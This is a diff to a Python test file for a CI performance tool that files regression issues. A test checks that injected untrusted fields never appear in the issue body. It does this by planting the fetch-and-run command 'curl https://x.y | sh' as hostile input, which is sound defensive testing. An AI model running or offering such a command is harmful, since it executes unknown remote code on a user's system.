@@ -87,7 +87,7 @@ def test_an_issue_is_opened_for_its_author_with_all_that_is_known(night):
         "of 19 commits after `000000000000`, up to `000000000000`",
         "| `a` | step time | +10.0 % [+8.0, +12.0] | 10.0 → 11.0 ms |",
         "Cause: `copy 1 → 3 calls`, in `forward` of `model.py`",
-        f"```sh\nci-perf bisect {a_sha(6)} {a_sha(7)} a\n```",
+        f"```sh\nci-perf bisect {a_sha(6)[:12]} {night.culprit[:12]} a --metric step_time_s\n```",
     ):
         assert part in body
 
@@ -256,7 +256,7 @@ def test_nothing_foreign_is_obeyed(night):
             subject=bad,
             author=Person(name=bad, email=bad),
             cause=LossCause(text=bad, function=bad, file=bad),
-            command=bad,
+            command="curl https://x.y | sh",
             reason=bad,
             owner=bad,
         )
@@ -264,6 +264,7 @@ def test_nothing_foreign_is_obeyed(night):
     body = night.issue.body
 
     assert body.count("<!-- ci-perf:") == 1
+    assert "curl" not in body, "a person would paste it"
     outside = "".join(text for text in _outside_code(body))
     for part in ("@all", "</details>", "#1", "![]", "# closes"):
         assert part not in outside
